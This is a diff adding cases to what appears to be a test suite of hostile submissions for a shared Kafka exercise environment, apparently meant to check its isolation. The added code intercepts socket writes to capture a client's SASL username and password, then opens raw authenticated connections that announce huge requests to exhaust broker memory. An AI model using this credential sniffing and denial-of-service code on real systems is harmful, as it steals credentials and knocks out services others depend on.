@@ -9,6 +9,39 @@ const KAFKA = `import { Kafka, logLevel } from 'kafkajs';
     try { await work(admin); return 'through'; } finally { await admin.disconnect(); }
   }`;
 
+/** Kafka's protocol by hand: a connection that has signed in, by what the client given knows. */
+const RAW = `import { connect, Socket } from 'node:net';
+  const frame = (key: number, version: number, body: Buffer) => {
+    const head = Buffer.alloc(14);
+    head.writeInt32BE(10 + body.length, 0); head.writeInt16BE(key, 4); head.writeInt16BE(version, 6);
+    head.writeInt32BE(1, 8); head.writeInt16BE(-1, 12);
+    return Buffer.concat([head, body]);
+  };
+  const accountOf = async (kafka: any) => {
+    let account: any;
+    const { write } = Socket.prototype;
+    Socket.prototype.write = function (this: any, chunk: any, ...rest: any[]) {
+      const [, username, password] = /\\0([\\w-]+)\\0([\\w-]+)$/.exec(Buffer.from(chunk).toString('latin1')) ?? [];
+      if (password) account = { username, password };
+      return write.call(this, chunk, ...(rest as [any]));
+    };
+    await admin(kafka, (admin) => admin.listTopics());
+    Socket.prototype.write = write;
+    return account;
+  };
+  const signedIn = ({ username, password }: any) => new Promise<any>((resolve, reject) => {
+    const [host, port] = T.kafka.bootstrap[0].split(':');
+    const socket = connect(Number(port), host).on('error', reject);
+    socket.write(frame(17, 1, Buffer.from('\\0\\x05PLAIN')));
+    socket.once('data', () => {
+      const token = Buffer.from('\\0' + username + '\\0' + password);
+      const length = Buffer.alloc(4);
+      length.writeInt32BE(token.length);
+      socket.write(frame(36, 0, Buffer.concat([length, token])));
+      socket.once('data', () => resolve(socket));
+    });
+  });`;
+
 /** What is others' on the brokers: each submission signs in, and may use names that begin as its own do. */
 export const meddling = sources({ exercise: '01-topics', top: KAFKA, timeoutMs: 4_000 }, [
   {
@@ -150,6 +183,20 @@ export const meddling = sources({ exercise: '01-topics', top: KAFKA, timeoutMs: 
       } finally { await producer.disconnect(); }
       return {};`,
     timeoutMs: 5_000,
+  },
+  {
+    name: 'announces-huge-requests',
+    tries: 'announces eight requests of 100 MB each, and sends nothing of them',
+    why: 'A broker makes room for what is announced: its memory is gone for all.',
+    top: `${KAFKA}\n${RAW}`,
+    body: `const account = await accountOf(args[0]);
+      const sockets = await Promise.all(Array.from({ length: 8 }, () => signedIn(account)));
+      const length = Buffer.alloc(4);
+      length.writeInt32BE(100 * 1024 * 1024);
+      for (const socket of sockets) socket.on('error', () => {}).write(length);
+      await new Promise((resolve) => setTimeout(resolve, 2_000));
+      return {};`,
+    timeoutMs: 12_000,
   },
   {
     name: 'makes-many-topics',
